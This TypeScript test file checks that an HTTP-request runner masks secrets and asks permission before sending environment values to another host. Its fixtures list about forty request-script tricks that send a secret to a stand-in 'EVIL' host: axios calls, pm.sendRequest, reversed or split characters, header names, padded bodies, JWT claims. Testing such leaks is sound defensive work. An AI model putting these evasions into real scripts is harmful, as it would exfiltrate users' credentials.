import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import type { OutgoingMessage } from '../../src/runner/index.ts';
import { startRecorder, type Recorder } from '../support/recorder.ts';
import { sendRun, type SendRun } from '../support/sendRun.ts';

/** Long enough for a key of HS256. Its parts of eight characters occur nowhere else. */
const value = 'Riga-0815-canary-9f2c-4711-hush-5b7d';

interface Way {
  readonly text: string;
  /** File of the request; `a.req` if absent. */
  readonly file?: string;
  readonly data?: string;
  /** Configurations of `http-client.env.json`, for the environment `dev`. */
  readonly oauth?: Readonly<Record<string, string>>;
  /** A value that is valid here; `value` if absent. */
  readonly value?: string;
  /** Only a signature made with the value is sent, so the value itself cannot be received. */
  readonly isKey?: true;
}

const { privateKey: pem } = generateKeyPairSync('ec', {
  namedCurve: 'prime256v1',
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});
const client = { Type: 'OAuth2', 'Grant Type': 'Client Credentials', 'Token URL': 'EVIL/token', 'Client ID': 'me' };

const read = 'tool.interpolate("VALUE")';
const inScript = (sends: string): string =>
  `< {%\nconst sent = ${sends};\nconsole.log(JSON.stringify(sent?.data ?? sent?.json?.() ?? null), ${read});\n%}\nGET GOOD/\n`;

/** Ways of a value to another host. `VALUE` is its placeholder, in the syntax of the file. */
const ways: Readonly<Record<string, Way>> = {
  'axios with a body': { text: inScript(`await axios.post("EVIL/", ${read})`) },
  'axios with parameters, reversed': { text: inScript(`await axios.get("EVIL/", { params: { q: [...${read}].reverse().join("") } })`) },
  'require("axios") with a header': { text: inScript(`await require("axios").get("EVIL/", { headers: { "X-A": ${read} } })`) },
  'an instance of axios with credentials': {
    text: inScript(`await axios.create({ baseURL: "EVIL", auth: { username: "me", password: ${read} } }).get("/")`),
  },
  'pm.sendRequest with a body': {
    text: inScript(`await pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "raw", raw: ${read}.slice(4) } })`),
  },
  'pm.sendRequest with a placeholder': {
    text: `@made = <VALUE>\n\n${inScript('await pm.sendRequest({ url: "EVIL/", method: "POST", header: { "X-A": "{{made}}" } })')}`,
  },
  'pm.environment, in a later request': {
    text: `### a\n# @name a\n${inScript(`pm.environment.set("x", ${read}.split("-"))`)}\n### b\n# @ref a\nGET EVIL/?q={{x[0]}}{{x[1]}}\n`,
  },
  'pm.request': { text: `< {%\npm.request.headers.upsert({ key: "X-A", value: [...${read}].reverse().join("") });\n%}\nGET EVIL/\n` },
  'bru.sendRequest with a body': { text: inScript(`await bru.sendRequest({ method: "POST", url: "EVIL/", data: { x: ${read} } })`) },
  'bru.runRequest': {
    text: `### evil\n# @name evil\nGET EVIL/{{x}}\n\n### b\n${inScript(`(bru.setVar("x", ${read}), await bru.runRequest("evil"))`)}`,
  },
  'req of Bruno': { text: `< {%\nreq.setBody({ x: ${read} });\n%}\nPOST EVIL/\n\nb\n` },
  'a capture of the body': { text: '### a\n# @name a\nGET GOOD/?q=VALUE\n\n@x << body.target\n\n### b\n# @ref a\nGET EVIL/{{x}}\n' },
  'a capture by JSONPath': {
    text: '### a\n# @name a\nGET GOOD/?q=VALUE\n\n@x << body.$..target\n\n### b\n# @ref a\nPOST EVIL/\n\n{{x}}\n',
  },
  'a long body': { text: `< {%\nrequest.body = [...${read}].reverse().join("") + "x".repeat(20_000);\n%}\nPOST EVIL/\n\nb\n` },
  'a long value of a JSON body': {
    text: `< {%\nrequest.body = JSON.stringify({ a: [...${read}].reverse().join("") + "x".repeat(20_000) });\n%}\nPOST EVIL/\n\n{}\n`,
  },
  'many values of a JSON body': {
    text: `< {%\nrequest.body = JSON.stringify([...Array(300).keys()].map((i) => "n" + i).concat(${read}.match(/.{1,4}/g)));\n%}\nPOST EVIL/\n\n[]\n`,
  },
  'names in a JSON body': {
    text: `< {%\nrequest.body = JSON.stringify(Object.fromEntries(${read}.match(/.{1,4}/g).map((x) => [x, true])));\n%}\nPOST EVIL/\n\n[]\n`,
  },
  'the name of a header': { text: `< {%\nrequest.headers["X-" + [...${read}].reverse().join("")] = "1";\n%}\nGET EVIL/\n` },
  'a header that looks like a placeholder': {
    text: `# @undefined keep\n< {%\nrequest.headers["X-A"] = "{{ " + [...${read}].reverse().join("") + " }}";\n%}\nGET EVIL/\n`,
  },
  'its characters in a body': { text: `< {%\nrequest.body = JSON.stringify([...${read}]);\n%}\nPOST EVIL/\n\n[]\n` },
  'its characters in a path': { text: `< {%\nrequest.url += [...${read}].join("/");\n%}\nGET EVIL/\n` },
  'its characters in a query that it writes over another': {
    text: `< {%\nrequest.url = request.url.replace("q", [...${read}].join("&"));\n%}\nGET EVIL/?q\n`,
  },
  'its characters in headers': { text: `< {%\n[...${read}].forEach((c, i) => (request.headers["X-" + i] = c));\n%}\nGET EVIL/\n` },
  'a long variable': {
    text: `< {%\ntool.setVar("x", [...${read}].reverse().join("") + "x".repeat(20_000));\n%}\nPOST EVIL/\n\n{{x}}\n`,
  },
  'a variable that ends with a space, in a header': {
    text: `< {%\ntool.setVar("x", [...${read}].reverse().join("") + " ");\n%}\nGET EVIL/\nX-A: {{x}}\n`,
  },
  'one of many items of a variable': {
    text: `< {%\ntool.setVar("x", [...Array(300).keys()].concat([...${read}].reverse().join("")));\n%}\nPOST EVIL/\n\n{{x[300]}}\n`,
  },
  'the long body of another request': {
    text: `### a\n# @name a\n< {%\nrequest.body = [...${read}].reverse().join("") + "x".repeat(20_000);\n%}\nPOST GOOD/\n\nb\n\n### b\n# @ref a\nPOST EVIL/\n\n{{a.request.body}}\n`,
  },
  'a column of a row of data': {
    text: `# @data rows.csv\n< {%\ntool.setVar("column", ${read});\n%}\nGET EVIL/{{column}}\n`,
    data: 'column\nplain\n',
  },
  'a claim of tool.jwt': {
    text: `< {%\nrequest.headers["X-T"] = tool.jwt.sign({ x: ${read} }, { alg: "HS256", key: "a key of more than 32 characters, really" });\n%}\nGET EVIL/\n`,
  },
  'the key of tool.jwt': {
    isKey: true,
    text: '< {%\nrequest.headers["X-T"] = tool.jwt.sign({ x: 1 }, { alg: "HS256", key: "VALUE" });\n%}\nGET EVIL/\n',
  },
  '# @auth jwt, the key': { isKey: true, text: '# @auth jwt key=VALUE\nGET EVIL/\n' },
  '# @auth jwt, a claim': { text: `# @auth jwt key="a key of more than 32 characters, really" claims='{"x": "VALUE"}'\nGET EVIL/\n` },
  '# @auth oauth1': { isKey: true, text: '# @auth oauth1 consumer VALUE token=t token-secret=s\nGET EVIL/\n' },
  '# @auth oauth1, the token': { text: '# @auth oauth1 consumer secret token=VALUE token-secret=s\nGET EVIL/\n' },
  '# @auth oauth2 with private_key_jwt, the key': {
    isKey: true,
    value: pem,
    text: '# @auth oauth2 a\nGET GOOD/\n',
    oauth: { ...client, 'Client Credentials': 'private_key_jwt', 'Signing Algorithm': 'ES256', 'Private Key': 'VALUE' },
  },
  '# @auth oauth2 with private_key_jwt, the name of the key': {
    text: '# @auth oauth2 a\nGET GOOD/\n',
    oauth: {
      ...client,
      'Client Credentials': 'private_key_jwt',
      'Signing Algorithm': 'ES256',
      'Private Key': pem.replaceAll('\n', '\\n'),
      'Key ID': 'VALUE',
    },
  },
  '# @auth oauth2 with client_secret_jwt': {
    isKey: true,
    text: '# @auth oauth2 a\nGET GOOD/\n',
    oauth: { ...client, 'Client Credentials': 'client_secret_jwt', 'Signing Algorithm': 'HS256', 'Client Secret': 'VALUE' },
  },
  '# @auth hawk': { isKey: true, text: '# @auth hawk id VALUE\nGET EVIL/\n' },
  '# @auth wsse': { isKey: true, text: '# @auth wsse user VALUE\nGET EVIL/\n' },
  'a .http file': { text: '### b\nGET EVIL/?q=VALUE\n', file: 'a.http' },
  'a variable of a .http file': { text: '@x = a-VALUE\n\n### b\nPOST EVIL/\nX-A: {{x}}\n\nb\n', file: 'a.http' },
  'a response that a .http file uses': {
    text: '# @name a\nGET GOOD/?q=VALUE\n\n### b\n# @ref a\nGET EVIL/{{a.response.body.target}}\n',
    file: 'a.http',
  },
};

describe('what may not go to every receiver, or may not be shown', () => {
  let good: Recorder;
  let evil: Recorder;
  let asked: string[];
  let messages: OutgoingMessage[];

  before(async () => {
    const echo = (_: unknown, target: string): string => {
      const body = JSON.stringify({ target });
      return `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    };
    [good, evil] = [await startRecorder(echo), await startRecorder(echo)];
  });
  after(async () => {
    await good.close();
    await evil.close();
  });
  beforeEach(() => {
    [asked, messages] = [[], []];
    good.requests.length = evil.requests.length = 0;
  });

  const evilHost = (): string => new URL(evil.url).host;

  function send({ text, file = 'a.req', data, oauth, value: given = value }: Way, placeholder: string, isAgent = false): Promise<SendRun> {
    const fill = (of: string): string => of.replaceAll('GOOD', good.url).replaceAll('EVIL', evil.url).replaceAll('VALUE', placeholder);
    const environments = oauth && JSON.stringify({ dev: { Security: { Auth: { a: oauth } } } });
    return sendRun(
      {
        [file]: fill(text),
        ...(data === undefined ? {} : { 'rows.csv': data }),
        ...(environments === undefined ? {} : { 'http-client.env.json': fill(environments) }),
      },
      {
        file,
        environment: 'dev',
        host: {
          env: (name) => (name === 'TOWN' ? given : undefined),
          secret: (name) => Promise.resolve(name === 'KEY' ? given : undefined),
          maySendEnvironment(names, _root, to) {
            asked.push(`${names.join()} to ${to.host}`);
            return Promise.resolve(to.host !== evilHost());
          },
          ...(isAgent
            ? {
                mayLookUp: () => Promise.resolve(true),
                maySend(message) {
                  messages.push(message);
                  return Promise.resolve(true);
                },
              }
            : {}),
        },
      },
    );
  }

  /**
   * Checks the texts that the runner masks. Bodies and values of variables are masked by their readers. In a user's run, the console can
   * show parts printed by a script.
   */
  function assertHidden({ events }: SendRun, { value: given = value }: Way, isAgent: boolean): void {
    const pieces = piecesOf(given === pem ? (pem.split('\n')[1] ?? '') : given);
    for (const event of events) {
      if (event.kind === 'chunk' || event.kind === 'variables') continue;
      const shown = JSON.stringify(event, (_, v: unknown) => (v instanceof Map ? [...v] : v));
      for (const piece of event.kind === 'console' && !isAgent ? [given] : pieces)
        assert.ok(!shown.includes(piece), `${piece} is shown: ${shown.slice(0, 3000)}`);
      const letters = lettersOf(shown);
      for (const piece of event.kind === 'sending' ? pieces.map(lettersOf) : [])
        assert.ok(!letters.includes(piece), `${piece} is shown apart: ${shown.slice(0, 3000)}`);
    }
  }
  const lettersOf = (text: string): string => text.replaceAll(/[^A-Za-z0-9]/g, '');
  const piecesOf = (text: string): readonly string[] => [
    text.slice(0, 12),
    text.slice(-12),
    text.split('').toReversed().join('').slice(0, 12),
    Buffer.from(text.slice(0, 9)).toString('base64'),
  ];

  for (const [name, way] of Object.entries(ways)) {
    const inHttp = way.file !== undefined;

    it(`does not go to a host that may not have it: a value of the environment, by ${name}`, async () => {
      await send(way, inHttp ? '{{$processEnv TOWN}}' : '{{$env.TOWN}}');
      assert.ok(asked.includes(`TOWN to ${evilHost()}`), `asked: ${asked.join('; ')}`);
      assert.deepEqual(evil.requests, []);
    });

    // .http files have no secrets of their own.
    if (inHttp) continue;
    if (way.isKey !== true)
      it(`is not shown: a secret by ${name}, nor what is made of it`, async () => {
        const run = await send(way, '{{$secret.KEY}}');
        // The token endpoint of these tests gives no token.
        if (way.oauth === undefined) assert.equal(run.result.failure?.message, undefined);
        assert.equal(evil.requests.length > 0, true);
        assertHidden(run, way, false);
      });
    it(`is asked for before an agent sends it: a secret by ${name}`, async () => {
      const run = await send(way, '{{$secret.KEY}}', true);
      const toEvil = messages.filter(({ to }) => to.host === evilHost());
      assert.ok(toEvil.length > 0);
      for (const { secrets } of toEvil) assert.notDeepEqual(secrets, []);
      assertHidden(run, way, true);
    });
  }

  it("is hidden in the next request that an agent's script names where nothing runs after it", async () => {
    const text = '< {%\npm.setNextRequest([...bru.getProcessEnv("TOWN")].join("."));\n%}\nGET GOOD/\n';
    const { console: lines } = await send({ text }, '', true);
    assert.equal(lines.length, 1);
    assert.match(lines[0] ?? '', /^The next request, •••, is not sent/);
  });
});
